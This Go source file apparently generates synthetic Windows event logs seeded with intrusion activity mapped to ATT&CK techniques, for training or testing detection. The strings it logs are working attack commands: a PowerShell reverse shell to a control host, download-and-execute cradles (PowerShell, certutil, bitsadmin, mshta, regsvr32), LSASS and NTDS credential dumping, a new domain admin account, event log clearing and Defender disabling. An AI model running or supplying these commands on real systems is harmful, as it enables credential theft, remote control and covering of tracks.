package logrange

import (
	"strconv"
	"strings"
	"time"
)

// What intruders do on Windows once they are in.

func windowsPlants() []Plant {
	win := func(id, title, techniques string, roles []Role, sow func(s *sowing)) Plant {
		return hostile(id, title, techniques, roles, windowsFormats, sow)
	}
	return []Plant{
		win("discovery", "A burst of commands that look around", "T1033 T1016 T1057 T1069.002 T1082 T1018 T1482 T1087.002", anyWindows, sowDiscovery),
		win("lsass-comsvcs", "Memory of LSASS dumped with a DLL of Windows", "T1003.001 T1218.011", anyWindows, sowComsvcs),
		win("lsass-procdump", "Memory of LSASS dumped with ProcDump", "T1003.001", anyWindows, sowProcdump),
		win("ntds-ifm", "Directory database copied with ntdsutil", "T1003.003", onlyDC, sowNTDS),
		win("dcsync", "Directory secrets replicated by an account that is no controller", "T1003.006", onlyDC, sowDCSync),
		win("powershell-encoded", "PowerShell with an encoded command that opens a connection", "T1059.001 T1027 T1095", anyWindows, sowEncoded),
		win("powershell-download", "PowerShell that runs what it downloads", "T1059.001 T1105", anyWindows, sowCradle),
		win("scheduled-task", "Scheduled task that runs a script from ProgramData", "T1053.005", anyWindows, sowTask),
		win("service-install", "Service that starts a hidden PowerShell", "T1543.003 T1569.002", anyWindows, sowService),
		win("new-admin", "New account that becomes an administrator", "T1136.002 T1098", []Role{DomainController, FileServer, Workstation, ExchangeServer}, sowNewAdmin),
		win("log-clear", "Event logs cleared", "T1070.001", anyWindows, sowClear),
		win("defender-off", "Protection of Windows Defender switched off", "T1562.001", anyWindows, sowDefenderOff),
		win("kerberoast", "Weakly encrypted service tickets, one after the other", "T1558.003", onlyDC, sowRoast),
		win("password-spray", "One password tried on many accounts, then a hit", "T1110.003 T1078", []Role{ExchangeServer, DomainController, FileServer, Workstation}, sowSpray),
		win("rdp-lateral", "Remote desktop from a server to the domain controller", "T1021.001 T1078.002", onlyDC, sowRDP),
		win("psexec", "PsExec from another server", "T1021.002 T1569.002", anyWindows, sowPsExec),
		win("wmi-exec", "Process started over WMI", "T1047", anyWindows, sowWMI),
		win("dll-sideload", "Renamed program that loads a DLL beside it", "T1574.001 T1036", anyWindows, sowSideload),
		win("run-key", "Run key that starts a program at logon", "T1547.001", anyWindows, sowRunKey),
		win("certutil-download", "Tool fetched with certutil", "T1105 T1140", anyWindows, sowCertutil),
		win("bitsadmin-download", "Tool fetched with BITS", "T1197 T1105", anyWindows, sowBitsadmin),
		win("rar-staging", "Files packed with a password in several volumes", "T1560.001 T1074.001", anyWindows, sowRar),
		win("cobalt-pipes", "Named pipes of a known attack framework", "T1071 T1055", anyWindows, sowPipes),
		win("dns-tunnel", "Data in the names of DNS queries", "T1071.004 T1572", anyWindows, sowTunnel),
		win("timestomp", "Creation time of a tool set back by years", "T1070.006", anyWindows, sowTimestomp),
		win("mshta", "Document that starts mshta with a page from the internet", "T1218.005 T1204.002 T1566.001", anyWindows, sowMshta),
		win("regsvr32", "Scriptlet run with regsvr32", "T1218.010", anyWindows, sowRegsvr),
		win("remote-thread", "Thread injected into Explorer", "T1055.002", anyWindows, sowThread),
	}
}

// foothold is the shell that the intruder works in: cmd.exe that nobody logged.
func (w *windows) foothold() *process {
	x := &process{}
	*x = *w.netsvcs
	x.program, x.pid = pCmd, w.pid|4
	x.guid[8], x.guid[9] = 0x0d, 0x0e
	x.command = []byte(`cmd.exe`)
	x.folder = `C:\Windows\Temp\`
	x.who = w.h.system
	if w.h.Role == Workstation {
		x.who = w.user
		x.logon = w.user.logon
	}
	return x
}

// types runs a command in the foothold.
func (w *windows) types(p *program, command string) *process {
	f := w.foothold()
	return w.text(f, p, f.who, f.folder, command)
}

func sowDiscovery(s *sowing) {
	for i, c := range []struct {
		p                  *program
		command, technique string
	}{
		{pWhoami, "whoami /all", "T1033"},
		{pIpconfig, "ipconfig /all", "T1016"},
		{pTasklist, "tasklist /v", "T1057"},
		{pNet, `net group "Domain Admins" /domain`, "T1069.002"},
		{pNet, "net user /domain", "T1087.002"},
		{pSysteminfo, "systeminfo", "T1082"},
		{pNltest, "nltest /domain_trusts /all_trusts", "T1482"},
		{pQuser, "quser", "T1033"},
		{pNet, "net view /all /domain", "T1018"},
	} {
		s.windows(ExchangeServer, time.Duration(i*13)*time.Second, c.technique, "Command that looks around: "+c.command, func(w *windows) {
			x := w.types(c.p, c.command)
			if c.p == pNet {
				w.text(x, pNet1, x.who, x.folder, sys32+strings.Replace(c.command, "net ", "net1 ", 1))
			}
		})
	}
}

func dumpTrace(lib string) string {
	return `C:\Windows\SYSTEM32\ntdll.dll+9c584|C:\Windows\System32\KERNELBASE.dll+2730e|` + lib + `|C:\Windows\System32\KERNEL32.DLL+17974`
}

func sowComsvcs(s *sowing) {
	dump := s.raid.folder + `\lsass.dmp`
	s.windows(ExchangeServer, 0, "T1003.001", "The process list is searched for LSASS", func(w *windows) {
		w.types(pTasklist, `tasklist /fi "imagename eq lsass.exe"`)
	})
	s.windows(ExchangeServer, 9*time.Second, "T1003.001 T1218.011", "rundll32 writes the memory of LSASS through comsvcs.dll", func(w *windows) {
		x := w.types(pRundll, `rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump `+strconv.Itoa(int(w.lsass.pid))+` `+dump+` full`)
		w.peeked(x, w.lsass, 0x1410, dumpTrace(`C:\Windows\System32\comsvcs.dll+2a4b3`))
		w.peeked(x, w.lsass, 0x1fffff, dumpTrace(`C:\Windows\SYSTEM32\dbgcore.DLL+6cb7|C:\Windows\System32\comsvcs.dll+2a4b3`))
		w.made(x, say(dump))
	})
}

func sowProcdump(s *sowing) {
	s.windows(FileServer, 0, "T1003.001", "ProcDump writes the memory of LSASS", func(w *windows) {
		const command = `C:\Windows\Temp\procdump.exe -accepteula -ma lsass.exe C:\Windows\Temp\x.dmp`
		x := w.types(pProcdump, command)
		y := w.text(x, pDump64, x.who, x.folder, command)
		w.peeked(y, w.lsass, 0x1fffff, dumpTrace(`C:\Windows\SYSTEM32\dbghelp.dll+52e1|C:\Windows\Temp\procdump64.exe+1a2b3`))
		w.made(y, say(`C:\Windows\Temp\x.dmp`))
	})
}

func sowNTDS(s *sowing) {
	folder := `C:\Windows\Temp\` + letters(s.rand, 4)
	s.windows(DomainController, 0, "T1003.003", "ntdsutil makes installation media from the directory", func(w *windows) {
		x := w.types(pNtdsutil, `ntdsutil "ac i ntds" "ifm" "create full `+folder+`" q q`)
		e := w.begin(databaseMove)
		e.str("lsass").strs(strconv.Itoa(int(w.lsass.pid)), ",R,98").str("").str(`C:\Windows\NTDS\ntds.dit`).str(`\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\ntds.dit`).put()
		e = w.begin(databaseOpen)
		e.str("ntdsutil").strs(strconv.Itoa(int(x.pid)), ",D,50").str("").str("1").str(`C:\$SNAP_202103021412_VOLUMEC$\Windows\NTDS\ntds.dit`).str("0").put()
		e = w.begin(databaseNew)
		e.str("ntdsutil").strs(strconv.Itoa(int(x.pid)), ",D,0").str("").str("2").str(folder + `\Active Directory\ntds.dit`).str("0").put()
		w.made(x, say(folder+`\Active Directory\ntds.dit`))
		w.made(x, say(folder+`\registry\SYSTEM`))
		w.h.step(2 * second)
		e = w.begin(databaseShut)
		e.str("ntdsutil").strs(strconv.Itoa(int(x.pid)), ",D,0").str("").str("2").str(folder + `\Active Directory\ntds.dit`).str("0").put()
	})
}

func sowDCSync(s *sowing) {
	s.windows(DomainController, 0, "T1003.006", "An account that is no domain controller uses the right to replicate all secrets", func(w *windows) {
		who := w.h.services[0]
		for range 3 {
			e := w.begin(directoryUsed)
			w.subject(e, who).str("DS").str("%{19195a5b-6da0-11d0-afd3-00c04fd930c9}").strs("%{", string(appendGUID(nil, randomGUID(w.h.rand), lowerHex)), "}").str("Object Access").num(0)
			e.str("%%7688\r\n\t\t\t\t").num(0x100).str("%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n").str("-").str("").put()
		}
	})
}

// encoded is a command as -EncodedCommand takes it: Base64 of UTF-16.
func encoded(s string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	var raw, out []byte
	for i := range len(s) {
		raw = append(raw, s[i], 0)
	}
	for len(raw)%3 != 0 {
		raw = append(raw, 0)
	}
	for i := 0; i < len(raw); i += 3 {
		n := int(raw[i])<<16 | int(raw[i+1])<<8 | int(raw[i+2])
		out = append(out, alphabet[n>>18], alphabet[n>>12&63], alphabet[n>>6&63], alphabet[n&63])
	}
	return string(out)
}

func sowEncoded(s *sowing) {
	code := `$c=New-Object System.Net.Sockets.TCPClient('` + s.raid.control + `',443);$s=$c.GetStream();$b=New-Object byte[] 65536;while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($r),0,$r.Length)}`
	s.windows(Workstation, 0, "T1059.001 T1027", "PowerShell starts hidden with an encoded command", func(w *windows) {
		x := w.types(pPowerShell, `powershell.exe -nop -w hidden -ep bypass -enc `+encoded(code))
		w.started(x)
		w.script(x.who, phrase{{text: code}}, "")
	})
	s.windows(Workstation, 2*time.Second, "T1059.001 T1095", "PowerShell opens a connection to the intruder's server", func(w *windows) {
		x := w.foothold()
		x.program = pPowerShell
		w.connected(x, "tcp", w.h.raid.control, "-", 443)
	})
}

func sowCradle(s *sowing) {
	line := `IEX (New-Object Net.WebClient).DownloadString('http://` + s.raid.control + `/a.ps1')`
	s.windows(Workstation, 0, "T1059.001 T1105", "PowerShell runs a script from the internet", func(w *windows) {
		x := w.types(pPowerShell, `powershell.exe -nop -w hidden -c "`+line+`"`)
		w.started(x)
		w.script(x.who, phrase{{text: line}}, "")
		w.asked(x, say(w.h.raid.domain), "0", "::ffff:"+w.h.raid.control+";")
		w.connected(x, "tcp", w.h.raid.control, w.h.raid.domain, 80)
	})
}

func sowTask(s *sowing) {
	ra := &s.raid
	run := ra.folder + `\a.bat`
	s.windows(ExchangeServer, 0, "T1053.005", "schtasks makes a task that runs a batch file from ProgramData as SYSTEM", func(w *windows) {
		w.types(pSchtasks, `schtasks /create /ru SYSTEM /sc daily /st 02:30 /tn "`+ra.task+`" /tr "cmd.exe /c `+run+`" /f`)
	})
	s.windows(ExchangeServer, 300*time.Millisecond, "T1053.005", "The task is registered", func(w *windows) {
		e := w.begin(taskNew)
		w.subject(e, w.h.system).str(ra.task).str(taskXML(domainShort+`\`+w.self.name, "cmd.exe", "/c "+run, "S-1-5-18", true)).num(0).num(uint64(w.pid)).num(4).num(0).str(w.h.fqdn).put()
		e = w.begin(taskRegistered)
		e.str(ra.task).str(`NT AUTHORITY\SYSTEM`).put()
	})
}

func sowService(s *sowing) {
	ra := &s.raid
	run := `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -enc ` + encoded(`IEX (New-Object Net.WebClient).DownloadString('http://`+ra.control+`/s')`)
	s.windows(FileServer, 0, "T1543.003", "A service with a random name is installed", func(w *windows) { w.installs(ra.svcName, run, "demand start", 3) })
	s.windows(FileServer, time.Second, "T1569.002", "The service starts a command shell", func(w *windows) {
		x := w.text(w.services, pCmd, w.h.system, `C:\Windows\system32\`, strings.Replace(run, "%COMSPEC%", `C:\Windows\system32\cmd.exe`, 1))
		w.text(x, pPowerShell, w.h.system, `C:\Windows\system32\`, strings.TrimPrefix(run, "%COMSPEC% /b /c start /b /min "))
	})
}

// installs logs a new service (7045 and 4697).
func (w *windows) installs(name, path, start string, number uint64) {
	e := w.begin(serviceNew)
	e.str(name).str(path).str("user mode service").str(start).str("LocalSystem").put()
	e = w.begin(serviceNewSec)
	w.subject(e, w.h.system).str(name).str(path).num(0x10).num(number).str("LocalSystem").num(4503599627371225).num(uint64(w.pid)).num(uint64(w.services.pid)).put()
}

func sowNewAdmin(s *sowing) {
	ra := &s.raid
	s.windows(DomainController, 0, "T1136.002", "net makes an account", func(w *windows) {
		x := w.types(pNet, `net user `+ra.newUser+` `+ra.password+` /add /domain`)
		w.text(x, pNet1, x.who, x.folder, sys32+`net1 user `+ra.newUser+` `+ra.password+` /add /domain`)
	})
	s.windows(DomainController, 200*time.Millisecond, "T1136.002", "The account is made, by a machine's account", func(w *windows) {
		sid := w.h.domainSID + "-1733"
		e := w.begin(userNew)
		e.named(accountPairs(ra.newUser, sid, "SubjectUserSid", "S-1-5-18", "SubjectUserName", w.self.name, "SubjectDomainName", domainShort, "SubjectLogonId", "0x3e7",
			"DisplayName", "%%1793", "PasswordLastSet", "%%1794", "AccountExpires", "%%1794", "PrimaryGroupId", "513", "OldUacValue", "0x0", "NewUacValue", "0x15",
			"UserAccountControl", "\r\n\t\t%%2080\r\n\t\t%%2082\r\n\t\t%%2084", "LogonHours", "%%1797")...).put()
	})
	s.windows(DomainController, 4*time.Second, "T1098", "The account joins the administrators", func(w *windows) {
		sid := w.h.domainSID + "-1733"
		w.types(pNet, `net group "Domain Admins" `+ra.newUser+` /add /domain`)
		e := w.begin(groupGlobal)
		e.named("MemberName", "CN="+ra.newUser+",CN=Users,DC=example,DC=org", "MemberSid", sid, "TargetUserName", "Domain Admins", "TargetDomainName", domainShort,
			"TargetSid", w.h.domainSID+"-512", "SubjectUserSid", "S-1-5-18", "SubjectUserName", w.self.name, "SubjectDomainName", domainShort, "SubjectLogonId", "0x3e7").put()
		e = w.begin(groupLocal)
		e.named("MemberName", "-", "MemberSid", sid, "TargetUserName", "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544",
			"SubjectUserSid", "S-1-5-18", "SubjectUserName", w.self.name, "SubjectDomainName", domainShort, "SubjectLogonId", "0x3e7").put()
	})
}

func sowClear(s *sowing) {
	s.windows(ExchangeServer, 0, "T1070.001", "wevtutil clears the event logs", func(w *windows) {
		w.types(pWevtutil, `wevtutil cl Security`)
		e := w.begin(securityCleared)
		w.subject(e, w.h.system).put()
		w.h.step(800 * milli)
		w.types(pWevtutil, `wevtutil cl System`)
		e = w.begin(logCleared)
		e.str(w.self.name).str(domainShort).str("System").str("").put()
	})
}

func sowDefenderOff(s *sowing) {
	const line = `Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true`
	s.windows(ExchangeServer, 0, "T1562.001", "PowerShell switches off real-time protection", func(w *windows) {
		x := w.types(pPowerShell, `powershell.exe -nop -c "`+line+`"`)
		w.started(x)
		w.script(x.who, phrase{{text: line}}, "")
		w.set(w.defender, say(`HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`), say("DWORD (0x00000001)"))
	})
}

func sowRoast(s *sowing) {
	for i := range 14 {
		s.windows(DomainController, time.Duration(i)*1300*time.Millisecond, "T1558.003", "Service ticket with RC4 encryption for an account of a service", func(w *windows) {
			who := w.h.raid.victim
			e := w.begin(ticketService)
			e.strs(who.name, "@", domainUpper).str(domainUpper).str([]string{"svc-sql", "svc-web", "svc-backup", "svc-print", "svc-monitor", "svc-crm", "svc-erp"}[i%7] + []string{"", "2"}[i/7])
			e.str(w.h.domainSID + "-" + strconv.Itoa(1140+i)).num(0x40810000).num(0x17).str("::ffff:10.20.10.12").dec(52000 + i).num(0).ident(randomGUID(w.h.rand)).str("-").put()
		})
	}
}

func sowSpray(s *sowing) {
	roles := []Role{ExchangeServer, DomainController, FileServer, Workstation}
	from := func(h *host) signIn {
		return signIn{kind: logonNetwork, process: "NtLmSsp ", pack: "NTLM", workstation: "WIN-" + string(appendHex(nil, mix64(h.plan.Seed), 8, upperHex)), from: h.raid.spray, lm: "NTLM V2"}
	}
	for i := range 26 {
		s.onAny(roles, time.Duration(i*9)*time.Second, "T1110.003", "Failed logon with one password for the next account", func(h *host) {
			h.win.refused(h.people[i%len(h.people)].name, from(h), badLogon, wrongPass, reasonWrong)
		})
	}
	s.onAny(roles, 27*9*time.Second, "T1110.003 T1078", "Successful logon from the address that failed on all the others", func(h *host) {
		in := from(h)
		in.keyLength, in.lm = 128, "NTLM V2"
		h.win.loggedOn(h.raid.victim, in)
	})
}

func sowRDP(s *sowing) {
	s.windows(DomainController, 0, "T1021.001 T1078.002", "A service's account logs on by remote desktop from the mail server", func(w *windows) {
		who := w.h.services[0]
		from := w.h.addressOf(w.h.mail)
		w.accepted(w.terms, from, 3389)
		w.loggedOn(who, signIn{kind: logonRemote, process: "User32 ", pack: "Negotiate", workstation: w.h.upper, from: from, via: w.terms, elevated: true})
		e := w.begin(remoteLogon)
		e.str(who.name).str(domainShort).str(from).put()
		e = w.begin(sessionOn)
		e.strs(who.domain, `\`, who.name).num(3).str(from).put()
	})
}

// addressOf is the address of another host of the plan.
func (h *host) addressOf(name string) string {
	for i, o := range h.plan.Hosts {
		if o.Name == name {
			return insideAddress(o.Role, i)
		}
	}
	return "10.20.1.11"
}

func sowPsExec(s *sowing) {
	s.windows(FileServer, 0, "T1021.002", "A service's program is copied to the administrative share", func(w *windows) {
		from := w.h.addressOf(w.h.mail)
		w.loggedOn(w.h.services[0], signIn{kind: logonNetwork, process: "NtLmSsp ", pack: "NTLM", workstation: strings.ToUpper(w.h.mail), from: from, lm: "NTLM V2", keyLength: 128, elevated: true})
		w.share(w.h.services[0], from, "ADMIN$", `C:\Windows`, "PSEXESVC.exe", 0x120196)
		w.made(w.kernel, say(`C:\Windows\PSEXESVC.exe`))
	})
	s.windows(FileServer, 700*time.Millisecond, "T1569.002", "The service is installed and started", func(w *windows) {
		w.installs("PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", 3)
		x := w.text(w.services, pPsExec, w.h.system, `C:\Windows\system32\`, `C:\Windows\PSEXESVC.exe`)
		w.pipe(x, true, `\PSEXESVC`)
		w.pipe(x, true, `\PSEXESVC-`+strings.ToUpper(w.h.mail)+`-4120-stdin`)
		w.text(x, pCmd, w.h.system, `C:\Windows\system32\`, `"cmd.exe" /c hostname`)
		w.share(w.h.services[0], w.h.addressOf(w.h.mail), "IPC$", "", "PSEXESVC-"+strings.ToUpper(w.h.mail)+"-4120-stdout", 0x12019f)
	})
}

func sowWMI(s *sowing) {
	s.windows(FileServer, 0, "T1047", "The WMI provider host starts a command shell whose output goes to the administrative share", func(w *windows) {
		from := w.h.addressOf(w.h.mail)
		w.loggedOn(w.h.services[0], signIn{kind: logonNetwork, process: "NtLmSsp ", pack: "NTLM", workstation: strings.ToUpper(w.h.mail), from: from, lm: "NTLM V2", keyLength: 128, elevated: true})
		x := w.text(w.dcom, pWmiPrvSE, w.h.network, `C:\Windows\system32\`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`)
		w.text(x, pCmd, w.h.services[0], `C:\`, `cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1614700`+string(appendDigits(nil, w.h.rand, 3))+`.`+string(appendDigits(nil, w.h.rand, 4))+` 2>&1`)
	})
}

func sowSideload(s *sowing) {
	folder := s.raid.folder
	p := newProgram(folder+`\OneDrive.exe`, "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe", "19.002.0107.0005", doNothing)
	s.windows(Workstation, 0, "T1574.001", "A signed program and a DLL for it to load are put into one folder", func(w *windows) {
		x := w.foothold()
		w.made(x, say(folder+`\OneDrive.exe`))
		w.made(x, say(folder+`\version.dll`))
	})
	s.windows(Workstation, 6*time.Second, "T1574.001 T1036", "The program starts outside of its usual folder and loads the unsigned DLL", func(w *windows) {
		x := w.types(p, `"`+folder+`\OneDrive.exe"`)
		lib := newLibrary("version.dll", "")
		e := w.begin(smLoad)
		w.process(e, x).str(folder + `\version.dll`).str("-").str("-").str("-").str("-").str("-").str(lib.hashes).str("false").str("-").str("Unavailable")
		w.owner(e, x).put()
		w.asked(x, say(w.h.raid.domain), "0", "::ffff:"+w.h.raid.control+";")
		w.connected(x, "tcp", w.h.raid.control, w.h.raid.domain, 443)
	})
}

func sowRunKey(s *sowing) {
	ra := &s.raid
	s.windows(Workstation, 0, "T1547.001", "reg writes a Run key that starts a tool from ProgramData", func(w *windows) {
		x := w.types(pReg, `reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v FontSync /t REG_SZ /d "`+ra.folder+`\`+ra.tool+`" /f`)
		w.set(x, say(`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\FontSync`), say(ra.folder+`\`+ra.tool))
	})
}

func sowCertutil(s *sowing) {
	ra := &s.raid
	s.windows(ExchangeServer, 0, "T1105", "certutil fetches a program from an address", func(w *windows) {
		x := w.types(pCertutil, `certutil.exe -urlcache -split -f http://`+ra.control+`/a.exe `+ra.folder+`\`+ra.tool)
		w.connected(x, "tcp", ra.control, "-", 80)
		w.made(x, say(ra.folder+`\`+ra.tool))
	})
	s.windows(ExchangeServer, 20*time.Second, "T1140", "certutil decodes a file into a program", func(w *windows) {
		x := w.types(pCertutil, `certutil -decode `+ra.folder+`\b.txt `+ra.folder+`\b.exe`)
		w.made(x, say(ra.folder+`\b.exe`))
	})
}

func sowBitsadmin(s *sowing) {
	ra := &s.raid
	s.windows(Workstation, 0, "T1197 T1105", "bitsadmin fetches a program from an address", func(w *windows) {
		w.types(pBitsadmin, `bitsadmin /transfer upd /download /priority high http://`+ra.control+`/b.exe `+ra.folder+`\`+ra.tool)
		w.transferred("upd", "http://"+ra.control+"/b.exe", 73216)
		w.made(w.netsvcs, say(ra.folder+`\BIT%{X4}.tmp`))
	})
}

func sowRar(s *sowing) {
	ra := &s.raid
	p := newProgram(ra.folder+`\`+ra.archiver, "Command line RAR", "WinRAR", "Alexander Roshal", "-", "5.91.0", doNothing)
	s.windows(FileServer, 0, "T1560.001 T1074.001", "Files of a share are packed with a password into volumes", func(w *windows) {
		x := w.types(p, `"`+ra.folder+`\`+ra.archiver+`" a -hp`+ra.password+` -v500m -m5 -r `+ra.folder+`\`+ra.archive+` D:\Shares\projects\`)
		for i := range 3 {
			w.made(x, say(ra.folder+`\`+strings.TrimSuffix(ra.archive, ".rar")+`.part`+strconv.Itoa(i+1)+`.rar`))
			w.h.step(400 * milli)
		}
	})
}

func sowPipes(s *sowing) {
	s.windows(FileServer, 0, "T1071", "A named pipe of the framework is made", func(w *windows) {
		x := w.foothold()
		x.program = pRundll
		w.pipe(x, true, w.h.raid.pipe)
	})
	s.windows(FileServer, 40*time.Second, "T1055", "A named pipe of the framework's jobs is made", func(w *windows) {
		x := w.foothold()
		x.program = pRundll
		w.pipe(x, true, `\postex_`+string(appendHex(nil, w.h.rand.next(), 4, lowerHex)))
		w.pipe(x, false, `\postex_`+string(appendHex(nil, w.h.rand.next(), 4, lowerHex)))
	})
}

func sowTunnel(s *sowing) {
	tool := newProgram(s.raid.folder+`\`+s.raid.tool, "-", "-", "-", "-", "-", doNothing)
	for i := range 80 {
		s.windows(Workstation, time.Duration(i)*1500*time.Millisecond, "T1071.004 T1572", "DNS query with data in its name", func(w *windows) {
			x := w.foothold()
			x.program = tool
			name := string(appendHex(nil, w.h.rand.next(), 56, lowerHex)) + "." + string(appendHex(nil, w.h.rand.next(), 12, lowerHex)) + "." + w.h.raid.tunnel
			w.asked(x, phrase{{text: name}}, "0", "type:  16 "+string(appendHex(nil, w.h.rand.next(), 24, lowerHex))+";")
		})
	}
}

func sowTimestomp(s *sowing) {
	ra := &s.raid
	s.windows(ExchangeServer, 0, "T1070.006", "The creation time of a tool is set back to the year 2016", func(w *windows) {
		x := w.foothold()
		e := w.begin(smTimes)
		w.process(e, x).str(ra.folder + `\` + ra.tool).utcAt(ticksOf(time.Date(2016, 7, 16, 11, 42, 3, 0, time.UTC))).utc()
		w.owner(e, x).put()
	})
}

func sowMshta(s *sowing) {
	s.windows(Workstation, 0, "T1218.005 T1204.002 T1566.001", "A document starts mshta with a page from the internet", func(w *windows) {
		doc := w.text(w.explorer, pWord, w.user, `C:\Users\`+w.user.name+`\Downloads\`, `"`+pWord.image+`" /n "C:\Users\`+w.user.name+`\Downloads\invoice 2021-03.doc" /o ""`)
		parent := *doc
		x := w.text(&parent, pMshta, w.user, `C:\Users\`+w.user.name+`\Downloads\`, `mshta.exe http://`+w.h.raid.control+`/i.hta`)
		w.connected(x, "tcp", w.h.raid.control, "-", 80)
	})
}

func sowRegsvr(s *sowing) {
	s.windows(Workstation, 0, "T1218.010", "regsvr32 runs a scriptlet from the internet", func(w *windows) {
		x := w.types(pRegsvr, `regsvr32.exe /s /n /u /i:http://`+w.h.raid.control+`/f.sct scrobj.dll`)
		w.connected(x, "tcp", w.h.raid.control, "-", 80)
	})
}

func sowThread(s *sowing) {
	tool := newProgram(s.raid.folder+`\`+s.raid.tool, "-", "-", "-", "-", "-", doNothing)
	s.windows(Workstation, 0, "T1055.002", "A thread is started in Explorer at an address outside of any module", func(w *windows) {
		x := w.foothold()
		x.program = tool
		w.peeked(x, w.explorer, 0x1fffff, `C:\Windows\SYSTEM32\ntdll.dll+9c534|C:\Windows\System32\KERNELBASE.dll+305fe|UNKNOWN(0000018E3F2A0000)`)
		e := w.begin(smThread)
		e.str("-").utc().ident(x.guid).num(uint64(x.pid)).str(x.image).ident(w.explorer.guid).num(uint64(w.explorer.pid)).str(w.explorer.image)
		e.num(uint64(4 * w.h.rand.between(500, 3000))).str("0x0000018E3F2A0000").str("-").str("-")
		w.owner(e, x)
		w.owner(e, w.explorer).put()
	})
}
